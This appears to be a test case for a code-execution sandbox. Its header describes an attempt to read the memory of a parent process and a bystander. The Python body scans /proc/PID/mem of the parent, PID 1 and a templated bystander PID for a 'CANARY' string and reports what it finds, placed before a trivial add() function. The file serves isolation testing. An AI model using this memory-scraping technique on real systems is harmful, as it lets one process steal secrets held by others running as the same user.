#: title = "Searches the memory of its parent and of a bystander"
#: why = "/proc/PID/mem is a file like any other to whoever shares the user."
#: answer = "either"
#: ends = ["any", "timeout"]
#: boasts = true
import os

for victim in (os.getppid(), 1, @BYSTANDER@):
    try:
        regions = open("/proc/%d/maps" % victim).read().splitlines()
        memory = open("/proc/%d/mem" % victim, "rb", buffering=0)
    except OSError:
        continue
    for region in regions:
        start, _, end = region.split()[0].partition("-")
        if "rw" not in region or int(end, 16) - int(start, 16) > 2**23:
            continue
        try:
            memory.seek(int(start, 16))
            data = memory.read(int(end, 16) - int(start, 16))
        except (OSError, ValueError, OverflowError):
            continue
        place = data.find(b"CANARY")
        if place >= 0:
            boast(data[max(0, place - 40) : place + 100].decode("latin-1"))


def add(a, b):
    return a + b
